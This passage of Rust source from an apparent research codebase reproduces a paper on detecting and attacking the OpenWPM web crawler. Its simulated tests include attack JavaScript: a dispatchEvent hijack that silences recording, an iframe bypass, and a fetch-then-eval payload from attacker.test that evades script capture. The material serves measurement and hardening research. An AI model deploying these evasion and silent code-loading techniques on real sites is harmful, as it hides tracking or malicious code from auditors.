        pct(ut as u64, n as u64)
    );

    let front = report.count(|s| s.front.union_true());
    println!(
        "front page only: {front} sites ({}); subpage crawling adds {} sites (paper: +5 %-points)\n",
        pct(front as u64, n as u64),
        ut - front
    );

    println!("top third-party detector hosts:");
    for (domain, count) in report.table7().into_iter().take(5) {
        println!("  {domain:<24} {count}");
    }

    let t6 = report.table6();
    if !t6.is_empty() {
        println!("\nOpenWPM-specific detectors (providers probing instrumentation props):");
        for (provider, props) in &t6 {
            println!("  {provider}: {props:?}");
        }
    }

    let t12 = report.table12();
    println!("\nfirst-party bot-management origins (URL-pattern clustering):");
    for (origin, count) in &t12 {
        println!("  {origin:<12} {count}");
    }
}
