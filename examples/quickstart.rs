//! Quickstart: crawl a page with OpenWPM, watch a bot detector catch it,
//! then crawl again with the hardened client and slip past.
//!
//! Run with: `cargo run --example quickstart -p gullible`

#![deny(deprecated)]

use detect::corpus::{self, Technique};
use openwpm::{Browser, BrowserConfig, PageScript, SiteResponse, VisitSpec};

fn main() {
    // A page that ships a webdriver-probing detector alongside its app
    // code, and throttles clients the detector flags.
    let spec = VisitSpec {
        url: "https://shop.example.com/".into(),
        scripts: vec![
            PageScript {
                url: "https://shop.example.com/js/app.js".into(),
                source: "var cart = []; cart.push('item');".into(),
                content_type: "text/javascript".into(),
            },
            PageScript {
                url: "https://botwall.example.net/bd/detect.js".into(),
                source: corpus::selenium_detector(
                    Technique::Plain,
                    "https://botwall.example.net/bd/verdict",
                )
                .into(),
                content_type: "text/javascript".into(),
            },
        ],
        dwell_override_s: Some(5),
        ..Default::default()
    };

    for (label, config) in [
        ("vanilla OpenWPM", BrowserConfig::vanilla(7)),
        ("WPM_hide (hardened)", BrowserConfig::stealth(7)),
    ] {
        let mut browser = Browser::new(config);
        let mut verdict = None;
        let _ = browser.visit(&spec, |traffic| {
            verdict = traffic
                .iter()
                .find(|r| r.url.path == "/bd/verdict")
                .map(|r| r.url.query.clone());
            SiteResponse::default()
        });
        let store = browser.take_store();
        println!("— {label} —");
        println!("  detector verdict beacon: {}", verdict.as_deref().unwrap_or("(none)"));
        println!(
            "  requests recorded: {}, scripts saved: {}, JS calls recorded: {}",
            store.http_requests.len(),
            store.saved_scripts.len(),
            store.js_calls.len()
        );
        for call in store.js_calls.iter().take(4) {
            println!(
                "    {} {} by {}",
                call.operation.as_str(),
                call.symbol,
                call.script_url
            );
        }
        println!();
    }
    println!(
        "the vanilla client is flagged (bot=1) because navigator.webdriver is true;\n\
         the hardened client reports false while still logging every access."
    );
}
