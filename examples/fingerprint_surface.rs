//! Fingerprint-surface analysis: how recognisable is each OpenWPM run mode,
//! and does the hardened client blend in? (Paper Sec. 3.)
//!
//! Run with: `cargo run --release --example fingerprint_surface -p gullible`

#![deny(deprecated)]

use browser::{Os, RunMode};
use gullible::surface::{surface, validate, ClientKind};

fn main() {
    println!("fingerprint surface vs a stock Firefox of the same version\n");
    let setups = [
        (Os::Ubuntu1804, RunMode::Regular),
        (Os::Ubuntu1804, RunMode::Headless),
        (Os::Ubuntu1804, RunMode::Xvfb),
        (Os::Ubuntu1804, RunMode::Docker),
        (Os::MacOs1015, RunMode::Regular),
        (Os::MacOs1015, RunMode::Headless),
    ];
    for (os, mode) in setups {
        let report = surface(ClientKind::OpenWpm, os, mode);
        println!(
            "{:<14} {:<9} probes deviating: {:>2}  template deviations: {:>5}  (webgl: {})",
            os.name(),
            mode.name(),
            report.probe_deviations.len(),
            report.template.total(),
            report.webgl_deviations()
        );
    }

    println!("\nfour-strategy validator (Sec. 3.3):");
    for (label, kind, os, mode) in [
        ("OpenWPM regular", ClientKind::OpenWpm, Os::Ubuntu1804, RunMode::Regular),
        ("OpenWPM headless", ClientKind::OpenWpm, Os::Ubuntu1804, RunMode::Headless),
        ("OpenWPM docker", ClientKind::OpenWpm, Os::Ubuntu1804, RunMode::Docker),
        ("OpenWPM instrumented", ClientKind::OpenWpmInstrumented, Os::Ubuntu1804, RunMode::Regular),
        ("WPM_hide", ClientKind::Hidden, Os::Ubuntu1804, RunMode::Regular),
        ("stock Firefox", ClientKind::StockFirefox, Os::Ubuntu1804, RunMode::Regular),
        ("stock Chrome", ClientKind::StockChrome, Os::Ubuntu1804, RunMode::Regular),
    ] {
        let (hit, evidence) = validate(kind, os, mode);
        println!(
            "  {:<22} {}  {}",
            label,
            if hit { "IDENTIFIED " } else { "clean      " },
            evidence
        );
    }
}
