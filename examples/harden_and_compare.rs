//! The paper's core story in one binary: attack the vanilla instrument
//! (Sec. 5), show the hardened instrument resisting (Sec. 6.2), then run a
//! miniature WPM-vs-WPM_hide field comparison (Sec. 6.3).
//!
//! Run with: `cargo run --release --example harden_and_compare -p gullible`

#![deny(deprecated)]

use gullible::attacks::{self, Target};
use gullible::{run_compare, Client, CompareConfig};
use netsim::{CookieParty, ResourceType};

fn main() {
    println!("=== recording attacks: vanilla vs hardened ===\n");

    let v = attacks::recording_off(Target::Vanilla);
    let s = attacks::recording_off(Target::Stealth);
    println!("dispatcher hijack (Listing 2):");
    println!("  vanilla:  id grabbed = {}, recording silenced = {}", v.id_grabbed, v.attack_succeeded());
    println!("  stealth:  id grabbed = {}, recording silenced = {}\n", s.id_grabbed, s.attack_succeeded());

    let v = attacks::csp_block(Target::Vanilla);
    let s = attacks::csp_block(Target::Stealth);
    println!("CSP script-src blocking (Sec. 5.1.2):");
    println!("  vanilla:  installed = {}, violations = {}, accesses recorded = {}", v.instrumentation_installed, v.csp_violations, v.accesses_recorded);
    println!("  stealth:  installed = {}, violations = {}, accesses recorded = {}\n", s.instrumentation_installed, s.csp_violations, s.accesses_recorded);

    let v = attacks::fake_data_injection(Target::Vanilla);
    let s = attacks::fake_data_injection(Target::Stealth);
    println!("fake-data injection (Sec. 5.2):");
    println!("  vanilla:  forged records = {} (script spoofed: {}, page_url spoofed: {})", v.forged_records, v.spoofed_script_url, !v.page_url_intact);
    println!("  stealth:  forged records = {}\n", s.forged_records);

    let v = attacks::iframe_bypass(Target::Vanilla);
    let s = attacks::iframe_bypass(Target::Stealth);
    println!("iframe bypass (Listing 3):");
    println!("  vanilla:  immediate access recorded = {}, delayed = {}", v.frame_access_recorded, v.delayed_access_recorded);
    println!("  stealth:  immediate access recorded = {}, delayed = {}\n", s.frame_access_recorded, s.delayed_access_recorded);

    let o = attacks::silent_delivery();
    println!("silent JS delivery (Listing 4):");
    println!("  payload executed = {}, saved by JS-only filter = {}, captured by full mode = {}\n", o.payload_executed, o.payload_saved_as_script, o.payload_in_full_bodies);

    println!("=== miniature field comparison (3 runs over cloaking sites) ===\n");
    let report = run_compare(CompareConfig::new(6_000, 42));
    println!("comparison set: {} detector sites", report.compare_set.len());
    for (i, (wpm, hide)) in report.runs.iter().enumerate() {
        let d_req = (hide.total_requests() as f64 / wpm.total_requests() as f64 - 1.0) * 100.0;
        let wt = report.tracking_cookies(Client::Wpm, i);
        let ht = report.tracking_cookies(Client::WpmHide, i);
        println!(
            "  r{}: requests WPM {} vs hide {} ({:+.1}%) | csp_reports {} vs {} | tracking cookies {} vs {} ({:+.0}%)",
            i + 1,
            wpm.total_requests(),
            hide.total_requests(),
            d_req,
            wpm.requests_of(ResourceType::CspReport),
            hide.requests_of(ResourceType::CspReport),
            wt,
            ht,
            (ht as f64 / wt.max(1) as f64 - 1.0) * 100.0,
        );
    }
    let (wpm, hide) = &report.runs[0];
    println!(
        "\ncookies r1: first-party {} vs {} | third-party {} vs {}",
        wpm.cookies_of(CookieParty::First),
        hide.cookies_of(CookieParty::First),
        wpm.cookies_of(CookieParty::Third),
        hide.cookies_of(CookieParty::Third),
    );
    println!("\nshape check (paper): hide sees more of everything; csp reports only for vanilla;");
    println!("tracking-cookie gap grows run over run as sites re-identify the vanilla client.");
}
