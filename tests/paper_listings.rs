//! The paper's listings, reproduced as integration tests across the full
//! stack (engine → browser → instruments).

use std::cell::RefCell;
use std::rc::Rc;

use browser::{FingerprintProfile, Os, Page, RunMode};
use netsim::Url;
use openwpm::instrument::vanilla;
use openwpm::RecordStore;

fn instrumented_page() -> (Page, Rc<RefCell<RecordStore>>) {
    let mut page = Page::new(
        FingerprintProfile::openwpm(Os::Ubuntu1804, RunMode::Regular),
        Url::parse("https://victim.test/").unwrap(),
        None,
    );
    let store = Rc::new(RefCell::new(RecordStore::new()));
    assert!(vanilla::install(&mut page, 2022, store.clone(), "https://victim.test/".into()));
    (page, store)
}

/// Listing 1: `toString` of an instrumented function leaks the wrapper.
#[test]
fn listing1_tostring_detectability() {
    let (mut page, _store) = instrumented_page();
    // The paper probes canvas.getContext; our instrument wraps the document
    // APIs — same mechanism, same leak.
    let out = page
        .run_script((
            r#"
            var native_before = '' + Object.getOwnPropertyNames; // sanity
            document.createElement.toString()
            "#,
            "https://victim.test/listing1.js",
        ))
        .unwrap();
    let text = out.as_str().unwrap();
    // Paper: "output of .toString when instrumented" contains the wrapper
    // body with getOriginatingScriptContext and logCall.
    assert!(text.contains("getOriginatingScriptContext"));
    assert!(text.contains("logCall"));
    assert!(text.contains("func.apply(this, arguments)"));
    // And an un-instrumented client shows native code.
    let mut clean = Page::new(
        FingerprintProfile::openwpm(Os::Ubuntu1804, RunMode::Regular),
        Url::parse("https://clean.test/").unwrap(),
        None,
    );
    let out = clean.run_script(("document.createElement.toString()", "probe")).unwrap();
    assert_eq!(out.as_str().unwrap(), "function createElement() {\n    [native code]\n}");
}

/// Listing 2: turn off the script recorder by hijacking the dispatcher.
#[test]
fn listing2_turn_off_recorder() {
    let (mut page, store) = instrumented_page();
    page.run_script((
        r#"
        // Step I: Retrieve OpenWPM's random ID
        var dispatch_fn = document.dispatchEvent;
        var grabbed;
        document.dispatchEvent = function (event) {
            grabbed = event.type;
            document.dispatchEvent = dispatch_fn;
        };
        // Perform an action to grab the ID
        navigator.userAgent;
        // Step II: Overwrite event dispatcher to block events
        document.dispatchEvent = function (event) {
            if (event.type !== grabbed) { return dispatch_fn.call(document, event); }
            return true; // Event swallowed
        };
        "#,
        "https://victim.test/listing2.js",
    ))
    .unwrap();
    let before = store.borrow().js_calls.len();
    page.run_script((
        "navigator.userAgent; navigator.platform; screen.width;",
        "https://victim.test/after.js",
    ))
    .unwrap();
    assert_eq!(store.borrow().js_calls.len(), before, "all instrument events swallowed");
}

/// Listing 3: unobserved channel via immediate iframe access.
#[test]
fn listing3_unobserved_iframe_channel() {
    let (mut page, store) = instrumented_page();
    page.run_script((
        r#"
        setTimeout(function () {
            var element = document.querySelector('#unobserved');
            var iframe = document.createElement('iframe');
            iframe.src = 'unobserved-iframe.html';
            element.appendChild(iframe);
            iframe.contentWindow.navigator.userAgent;
        }, 500);
        "#,
        "https://victim.test/listing3.js",
    ))
    .unwrap();
    page.advance(2_000);
    let ua_from_attack = store
        .borrow()
        .js_calls
        .iter()
        .any(|r| r.symbol.ends_with(".userAgent") && r.script_url.contains("listing3"));
    assert!(!ua_from_attack, "the in-frame access must not be recorded by vanilla OpenWPM");
}

/// Listing 4 / Appx. D: silently load and run JavaScript as text.
#[test]
fn listing4_silent_js_delivery() {
    let (mut page, _store) = instrumented_page();
    page.add_server_resource("https://attacker.test/cheat", "text/plain", "window.pwned = 1;");
    page.run_script((
        r#"
        var stealth_code = 'https://attacker.test/cheat';
        fetch(stealth_code)
            .then(function (res) { return res.text(); })
            .then(function (res) { eval(res); });
        "#,
        "https://victim.test/listing4.js",
    ))
    .unwrap();
    let v = page.run_script(("window.pwned", "probe")).unwrap();
    assert_eq!(v, jsengine::Value::Num(1.0), "payload must execute");
    // The HTTP instrument's JS filter would not have saved it: the response
    // has neither a JS content type nor a .js extension.
    let resp = netsim::HttpResponse {
        url: Url::parse("https://attacker.test/cheat").unwrap(),
        status: 200,
        content_type: "text/plain".into(),
        body: "window.pwned = 1;".into(),
    };
    assert!(!resp.looks_like_javascript());
}

/// Sec. 5.2: fake data injection spoofs the script but not the page.
#[test]
fn fake_record_injection_cannot_spoof_page_url() {
    let (mut page, store) = instrumented_page();
    page.run_script((
        detect::corpus::fake_data_injection_attack("https://innocent.example/lib.js"),
        "https://victim.test/attack.js",
    ))
    .unwrap();
    let store = store.borrow();
    let forged: Vec<_> = store
        .js_calls
        .iter()
        .filter(|r| r.symbol.contains("injectedFakeSymbol"))
        .collect();
    assert_eq!(forged.len(), 1);
    assert!(forged[0].script_url.contains("innocent.example"), "script spoofable");
    assert_eq!(forged[0].page_url, "https://victim.test/", "page_url set host-side");
}
