//! Cross-crate end-to-end tests: the full pipeline against the population's
//! ground truth (which the pipeline itself never reads).

use gullible::scan::{Scan, ScanConfig};
use gullible::{run_compare, CompareConfig};
use webgen::Population;

#[test]
fn scan_findings_match_population_ground_truth() {
    let n = 1_200;
    let seed = 2022;
    let pop = Population::new(n, seed);
    let report = Scan::new(ScanConfig { workers: 2, ..ScanConfig::new(n, seed) }).run().expect("scan");
    assert_eq!(report.sites.len(), n as usize);

    let mut missed_reachable = 0;
    let mut false_detections = 0;
    for rank in 0..n {
        let plan = pop.plan(rank);
        let rec = &report.sites[rank as usize];
        let reachable = plan.front_has_detector()
            || (!plan.subpage.is_empty() && plan.subpage_count > 0);
        if reachable && !rec.site.union_true() {
            // Constructed probes behind a strict CSP are invisible to both
            // methods — the only legitimate misses.
            assert!(
                plan.strict_csp,
                "rank {rank} missed without CSP: front={:?} sub={:?}",
                plan.front.third_party, plan.subpage.third_party
            );
            missed_reachable += 1;
        }
        if !plan.site_has_detector() && rec.site.union_true() {
            false_detections += 1;
        }
    }
    assert!(
        missed_reachable <= n / 100,
        "too many missed reachable detector sites: {missed_reachable}"
    );
    assert_eq!(false_detections, 0, "pipeline must not invent detectors");
}

#[test]
fn scan_openwpm_providers_match_assignment() {
    let n = 2_500;
    let seed = 7;
    let pop = Population::new(n, seed);
    let report = Scan::new(ScanConfig { workers: 2, include_subpages: false, ..ScanConfig::new(n, seed) }).run().expect("scan");
    // Every plan-assigned cheqzone site (plain technique) must be found.
    let t6 = report.table6();
    let planned_cheq = (0..n)
        .filter(|r| {
            pop.plan(*r)
                .openwpm_provider
                .map(|p| p.domain == "cheqzone.com" && !pop.plan(*r).strict_csp)
                .unwrap_or(false)
        })
        .count() as u32;
    let found_cheq = t6
        .get("cheqzone.com")
        .map(|props| *props.values().max().unwrap_or(&0))
        .unwrap_or(0);
    assert!(
        found_cheq >= planned_cheq,
        "cheqzone: found {found_cheq} < planned non-CSP {planned_cheq}"
    );
}

#[test]
fn compare_shape_holds_on_tiny_population() {
    let report = run_compare(CompareConfig { n_sites: 3_000, seed: 5, runs: 2, workers: 2 });
    assert!(!report.compare_set.is_empty());
    for (wpm, hide) in &report.runs {
        // Who wins: the hidden client, on every run.
        assert!(hide.total_requests() >= wpm.total_requests());
        assert!(hide.requests_of(netsim::ResourceType::CspReport) == 0);
    }
}

#[test]
fn scan_report_internal_consistency() {
    let report = Scan::new(ScanConfig { workers: 2, ..ScanConfig::new(600, 3) }).run().expect("scan");
    // Front implies site (cumulative flags).
    for s in &report.sites {
        if s.front.static_true {
            assert!(s.site.static_true, "rank {}", s.rank);
        }
        if s.front.dynamic_true {
            assert!(s.site.dynamic_true, "rank {}", s.rank);
        }
        // identified ⊇ true for both methods.
        if s.site.static_true {
            assert!(s.site.static_identified);
        }
        if s.site.dynamic_true {
            assert!(s.site.dynamic_identified);
        }
    }
    // Bucket series sums to totals.
    let buckets = report.rank_buckets(50);
    let sum: u32 = buckets.iter().map(|b| b[2]).sum();
    assert_eq!(sum, report.count(|s| s.site.static_true));
}

#[test]
fn first_party_inclusions_subset_of_first_party_sites() {
    let n = 2_000;
    let pop = Population::new(n, 9);
    let report = Scan::new(ScanConfig { workers: 2, include_subpages: false, ..ScanConfig::new(n, 9) }).run().expect("scan");
    for s in &report.sites {
        if !s.first_party_urls.is_empty() {
            let plan = pop.plan(s.rank);
            assert!(
                plan.first_party.is_some(),
                "rank {} reported a first-party detector without one planned: {:?}",
                s.rank,
                s.first_party_urls
            );
        }
    }
}
