//! Integration tests for the shared script-compilation cache and the
//! wider shared-artifact layer it gates (realm templates, shared
//! profiles): the cache must be a *pure* optimisation — invisible in every
//! measured artifact — while staying correct under concurrency and bounded
//! in growth.
//!
//! The cache and the telemetry registry are process-wide; these tests
//! serialise on one mutex so the parallel test runner cannot interleave
//! their resets.

use std::sync::{Arc, Mutex};

use gullible::obs;
use gullible::scan::{Scan, ScanConfig};

static SERIAL: Mutex<()> = Mutex::new(());

fn scan_cfg() -> ScanConfig {
    let mut cfg = ScanConfig::new(600, 7);
    cfg.workers = 2;
    cfg
}

/// The headline ablation invariant, at test scale: the same seed scanned
/// with the cache on and off yields identical Table 5 output, identical
/// per-site records, and a byte-identical telemetry digest.
#[test]
fn cache_is_invisible_to_results_and_telemetry() {
    let _g = SERIAL.lock().unwrap();
    let leg = |cache_on: bool| {
        obs::reset();
        obs::set_stats(true);
        jsengine::cache().clear();
        jsengine::set_cache_enabled(cache_on);
        let report = Scan::new(scan_cfg()).run().expect("scan");
        let digest = obs::registry().snapshot().digest();
        (report, digest)
    };
    let (on, digest_on) = leg(true);
    let (off, digest_off) = leg(false);
    obs::reset();
    jsengine::set_cache_enabled(true);

    assert_eq!(on.table5(), off.table5(), "table 5 must not depend on the cache");
    assert_eq!(on.sites, off.sites, "per-site records must not depend on the cache");
    assert_eq!(on.history, off.history);
    assert_eq!(
        digest_on, digest_off,
        "telemetry digest differs: {digest_on:016x} (cache) vs {digest_off:016x} (no cache)"
    );
}

/// Hammer the cache from many threads: every thread compiling the same
/// body set must converge on one shared artifact per body, with the entry
/// count bounded by the number of unique bodies (never by call count).
#[test]
fn concurrent_compiles_share_one_artifact_per_body() {
    let _g = SERIAL.lock().unwrap();
    jsengine::set_cache_enabled(true);
    jsengine::cache().clear();
    let bodies: Arc<Vec<String>> = Arc::new(
        (0..24).map(|i| format!("var stress{i} = {i}; stress{i} + 1;")).collect(),
    );
    let threads: Vec<_> = (0..8)
        .map(|_| {
            let bodies = bodies.clone();
            std::thread::spawn(move || {
                for _round in 0..40 {
                    for (i, body) in bodies.iter().enumerate() {
                        let cs = jsengine::compile_cached(body, &format!("stress{i}.js"))
                            .expect("stress script compiles");
                        assert_eq!(cs.name().as_ref(), format!("stress{i}.js"));
                    }
                }
            })
        })
        .collect();
    for t in threads {
        t.join().expect("stress thread panicked");
    }

    let stats = jsengine::cache().stats();
    assert_eq!(stats.entries, 24, "one entry per unique body");
    // 8 threads × 40 rounds × 24 bodies; racing first compiles may record
    // a few extra misses (parse happens outside the shard lock), but the
    // steady state is all hits.
    assert_eq!(stats.hits + stats.misses, 8 * 40 * 24);
    assert!(stats.misses < 24 + 8, "misses {} not bounded by unique bodies", stats.misses);

    // After the dust settles, everyone gets pointer-identical programs.
    let a = jsengine::compile_cached(&bodies[0], "stress0.js").unwrap();
    let b = jsengine::compile_cached(&bodies[0], "stress0.js").unwrap();
    assert!(Arc::ptr_eq(a.ast(), b.ast()));
}

/// Recompiling the same bodies forever must not grow the cache: size is
/// bounded by the unique-body count, not the compile count.
#[test]
fn growth_is_bounded_by_unique_bodies() {
    let _g = SERIAL.lock().unwrap();
    jsengine::set_cache_enabled(true);
    jsengine::cache().clear();
    for round in 0..10 {
        for i in 0..20 {
            jsengine::compile_cached(&format!("var g{i} = {i};"), "growth.js")
                .expect("growth script compiles");
        }
        let stats = jsengine::cache().stats();
        assert_eq!(stats.entries, 20, "round {round}: cache grew past the unique-body count");
    }
    let stats = jsengine::cache().stats();
    assert_eq!(stats.misses, 20);
    assert_eq!(stats.hits, 9 * 20);
    jsengine::cache().clear();
}
