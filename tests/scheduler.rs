//! Work-stealing scheduler guarantees: the scheduler decides *which
//! worker* visits a site, never *what the crawl reports*. Every artifact —
//! telemetry digest, Table 5, per-site records, crawl history — must be
//! byte-identical across worker counts, across chunk sizes, and across
//! repeated runs; and the rank-order merge of per-worker result buffers
//! must equal the sequential map for any chunking.

use gullible::obs;
use gullible::scan::{Scan, ScanConfig, ScanReport};
use openwpm::{run_parallel_chunked, FaultPlan};

/// Tests that touch the global obs registry share one process; serialize
/// them (same pattern as the obs crate's own tests).
static OBS_LOCK: std::sync::Mutex<()> = std::sync::Mutex::new(());

fn obs_locked() -> std::sync::MutexGuard<'static, ()> {
    OBS_LOCK.lock().unwrap_or_else(|e| e.into_inner())
}

/// One full scan with stats collection; returns the report plus the
/// deterministic metric rendering, and resets global telemetry after.
fn measured_scan(workers: usize) -> (ScanReport, String) {
    obs::reset();
    obs::set_stats(true);
    let cfg = ScanConfig {
        workers,
        faults: FaultPlan::adversarial(13),
        ..ScanConfig::new(300, 37)
    };
    let report = Scan::new(cfg).run().expect("scan");
    let metrics = obs::registry().snapshot().render_deterministic();
    obs::reset();
    (report, metrics)
}

/// The tentpole invariant: worker counts {1, 3, 8} produce identical
/// telemetry digests, Table 5, per-site records and history — and the
/// scheduler's own effort counters (which *do* differ) never leak in.
#[test]
fn results_identical_across_worker_counts() {
    let _g = obs_locked();
    let (base, base_metrics) = measured_scan(1);
    assert_eq!(base.completion.total, 300);
    for workers in [3, 8] {
        let (report, metrics) = measured_scan(workers);
        assert_eq!(base_metrics, metrics, "metrics diverged at {workers} workers");
        assert_eq!(base.table5(), report.table5(), "Table 5 diverged at {workers} workers");
        assert_eq!(base.table12(), report.table12(), "Table 12 diverged at {workers} workers");
        assert_eq!(base.sites, report.sites, "site records diverged at {workers} workers");
        assert_eq!(base.history, report.history, "history diverged at {workers} workers");
        assert_eq!(base.completion, report.completion);
    }
    assert!(
        !base_metrics.contains("sched."),
        "scheduler effort counters must be digest-excluded:\n{base_metrics}"
    );
}

/// Two runs at the same worker count are also identical — same-count
/// determinism is a separate property from cross-count invariance (a
/// racy merge could break one without the other).
#[test]
fn repeated_runs_identical_at_same_worker_count() {
    let _g = obs_locked();
    let (a, am) = measured_scan(3);
    let (b, bm) = measured_scan(3);
    assert_eq!(am, bm);
    assert_eq!(a.table5(), b.table5());
    assert_eq!(a.sites, b.sites);
    assert_eq!(a.history, b.history);
}

/// Property: for random item counts, worker counts and chunk sizes, the
/// rank-order merge of the work-stealing run equals the sequential map.
#[test]
fn chunked_merge_equals_sequential_map() {
    proplite::run_cases(120, 0x5CED, |rng| {
        let n = rng.usize_in(0, 500);
        let workers = rng.usize_in(1, 9);
        let chunk = rng.usize_in(0, 40); // 0 = auto sizing
        let items: Vec<u64> = (0..n as u64).map(|i| i.wrapping_mul(0x9E37)).collect();
        let expect: Vec<u64> = items.iter().enumerate().map(|(i, v)| v ^ (i as u64) << 7).collect();
        let got = run_parallel_chunked(items, workers, chunk, |_| (), |_, i, v: u64| {
            v ^ (i as u64) << 7
        });
        assert_eq!(got, expect, "n={n} workers={workers} chunk={chunk}");
    });
}

/// Workers keep private result buffers; a worker that processes nothing
/// (more workers than items) must not perturb the merge.
#[test]
fn merge_handles_idle_workers() {
    for n in [1usize, 2, 5, 7] {
        let out = run_parallel_chunked((0..n as u32).collect(), 8, 1, |_| (), |_, _, x: u32| x * 10);
        assert_eq!(out, (0..n as u32).map(|x| x * 10).collect::<Vec<_>>());
    }
}

/// The scheduler reports its effort through obs: chunk claims always,
/// steals whenever more than one worker contends for a skewed load.
#[test]
fn scheduler_counters_are_reported() {
    let _g = obs_locked();
    obs::reset();
    obs::set_stats(true);
    run_parallel_chunked(
        (0..200u32).collect::<Vec<_>>(),
        4,
        1,
        |_| (),
        |_, i, _| {
            // Skew the seeded ranges so idle workers must steal.
            if i < 50 {
                std::thread::sleep(std::time::Duration::from_micros(300));
            }
        },
    );
    let snap = obs::registry().snapshot();
    assert!(snap.counter("sched.chunk.claimed") > 0);
    assert_eq!(snap.counter("manager.items"), 200);
    // Steals are scheduling luck — even a skewed load may drain without
    // one on a single core — but the counter must at least be wired.
    let rendered = snap.render();
    assert!(rendered.contains("sched.chunk.claimed"), "{rendered}");
    obs::reset();
}
