//! Telemetry determinism (the observability layer around Sec. 4's scan):
//! the trace journal and the metric snapshot are functions of (seed, fault
//! plan) alone. Worker count changes scheduling, wall-clock time and
//! thread interleaving — none of which may leak into either artifact.

use gullible::obs;
use gullible::scan::{Scan, ScanConfig};
use openwpm::FaultPlan;

/// One instrumented run: install a buffer journal, scan, return the
/// journal bytes and the rendered metric snapshot, then reset the global
/// telemetry state for the next run.
fn traced_scan(workers: usize) -> (String, String) {
    let journal = obs::install_journal(obs::Journal::buffer(false));
    let cfg = ScanConfig {
        workers,
        faults: FaultPlan::adversarial(7),
        ..ScanConfig::new(400, 42)
    };
    let report = Scan::new(cfg).run().expect("scan");
    assert_eq!(report.completion.total, 400);
    journal.flush();
    let trace = journal.buffer_contents().expect("buffer journal");
    // `render_deterministic` omits the `cache.*` accounting, which varies
    // with worker interleaving and process-level cache warmth by design.
    let metrics = obs::registry().snapshot().render_deterministic();
    obs::take_journal();
    obs::reset();
    (trace, metrics)
}

/// Same seed + same adversarial fault plan ⇒ byte-identical simulated-clock
/// trace journals and metric snapshots, regardless of worker count.
#[test]
fn trace_and_metrics_are_worker_count_independent() {
    let (trace2, metrics2) = traced_scan(2);
    let (trace7, metrics7) = traced_scan(7);

    assert!(!trace2.is_empty(), "journal must record the crawl");
    assert!(metrics2.contains("supervisor.visits"), "metrics must record the crawl");

    assert_eq!(metrics2, metrics7, "metric snapshot depends on worker count");
    if trace2 != trace7 {
        let diff = trace2
            .lines()
            .zip(trace7.lines())
            .enumerate()
            .find(|(_, (a, b))| a != b)
            .map(|(i, (a, b))| format!("first divergence at line {}:\n  {a}\n  {b}", i + 1))
            .unwrap_or_else(|| "journals differ in length".to_string());
        panic!("trace journal depends on worker count — {diff}");
    }

    // The journal is also well-formed: parses, clocks are monotone per
    // scope, spans balance.
    let summary = obs::validate::validate_journal(&trace2).expect("journal validates");
    assert!(summary.lines > 400, "expected per-visit events, got {} lines", summary.lines);
    assert!(summary.spans > 0);
}
