//! Telemetry determinism (the observability layer around Sec. 4's scan):
//! the trace journal and the metric snapshot are functions of (seed, fault
//! plan) alone. Worker count changes scheduling, wall-clock time and
//! thread interleaving — none of which may leak into either artifact.

use gullible::obs;
use gullible::scan::{Scan, ScanConfig};
use openwpm::FaultPlan;
use std::sync::Mutex;

// Both tests drive the process-global telemetry registry; serialize.
static OBS: Mutex<()> = Mutex::new(());

fn lock() -> std::sync::MutexGuard<'static, ()> {
    OBS.lock().unwrap_or_else(|e| e.into_inner())
}

/// One instrumented run: install a buffer journal, scan, return the
/// journal bytes and the rendered metric snapshot, then reset the global
/// telemetry state for the next run.
fn traced_scan(workers: usize) -> (String, String) {
    let journal = obs::install_journal(obs::Journal::buffer(false));
    let cfg = ScanConfig {
        workers,
        faults: FaultPlan::adversarial(7),
        ..ScanConfig::new(400, 42)
    };
    let report = Scan::new(cfg).run().expect("scan");
    assert_eq!(report.completion.total, 400);
    journal.flush();
    let trace = journal.buffer_contents().expect("buffer journal");
    // `render_deterministic` omits the `cache.*` accounting, which varies
    // with worker interleaving and process-level cache warmth by design.
    let metrics = obs::registry().snapshot().render_deterministic();
    obs::take_journal();
    obs::reset();
    (trace, metrics)
}

/// Same seed + same adversarial fault plan ⇒ byte-identical simulated-clock
/// trace journals and metric snapshots, regardless of worker count.
#[test]
fn trace_and_metrics_are_worker_count_independent() {
    let _g = lock();
    let (trace2, metrics2) = traced_scan(2);
    let (trace7, metrics7) = traced_scan(7);

    assert!(!trace2.is_empty(), "journal must record the crawl");
    assert!(metrics2.contains("supervisor.visits"), "metrics must record the crawl");

    assert_eq!(metrics2, metrics7, "metric snapshot depends on worker count");
    if trace2 != trace7 {
        let diff = trace2
            .lines()
            .zip(trace7.lines())
            .enumerate()
            .find(|(_, (a, b))| a != b)
            .map(|(i, (a, b))| format!("first divergence at line {}:\n  {a}\n  {b}", i + 1))
            .unwrap_or_else(|| "journals differ in length".to_string());
        panic!("trace journal depends on worker count — {diff}");
    }

    // The journal is also well-formed: parses, clocks are monotone per
    // scope, spans balance.
    let summary = obs::validate::validate_journal(&trace2).expect("journal validates");
    assert!(summary.lines > 400, "expected per-visit events, got {} lines", summary.lines);
    assert!(summary.spans > 0);
}

/// One run for the profiler-invisibility check: trace bytes, deterministic
/// metric render, telemetry digest, and fingerprints of the per-site
/// records and the paper tables.
fn profiled_scan(profile: bool) -> (String, String, u64, u64, String, String) {
    obs::reset();
    let journal = obs::install_journal(obs::Journal::buffer(false));
    let dumps = std::env::temp_dir()
        .join(format!("gullible-telemetry-prof-{}.jsonl", std::process::id()));
    if profile {
        obs::prof::set_mode(obs::prof::Mode::Collapsed);
        // Threshold of 1 µs: practically every visit dumps a forensic
        // record — the worst case for interference.
        obs::prof::set_slow_visit_us(1);
        let _ = std::fs::remove_file(&dumps);
        obs::prof::set_forensic_path(Some(&dumps)).expect("arm flight recorder");
    }
    let cfg = ScanConfig {
        workers: 3,
        faults: FaultPlan::adversarial(7),
        ..ScanConfig::new(150, 42)
    };
    let report = Scan::new(cfg).run().expect("scan");
    journal.flush();
    let trace = journal.buffer_contents().expect("buffer journal");
    let snap = obs::registry().snapshot();
    let out = (
        trace,
        snap.render_deterministic(),
        snap.digest(),
        obs::fnv1a(format!("{:?}", report.sites).as_bytes()),
        format!("{:?}", report.table5()),
        format!("{:?}", report.history),
    );
    if profile {
        // The profiler itself must have seen the run (the comparison would
        // be vacuous otherwise) and left parseable forensics behind.
        assert!(snap.counter("prof.self.visit") > 0, "profiler armed but recorded nothing");
        let text = std::fs::read_to_string(&dumps).expect("forensic dumps");
        let summary = obs::validate::validate_forensic(&text).expect("parseable forensics");
        assert!(summary.dumps > 0, "slow-visit threshold of 1µs must dump");
        let _ = std::fs::remove_file(&dumps);
    }
    obs::take_journal();
    obs::reset();
    out
}

/// The profiler and flight recorder are pure observers: with both fully
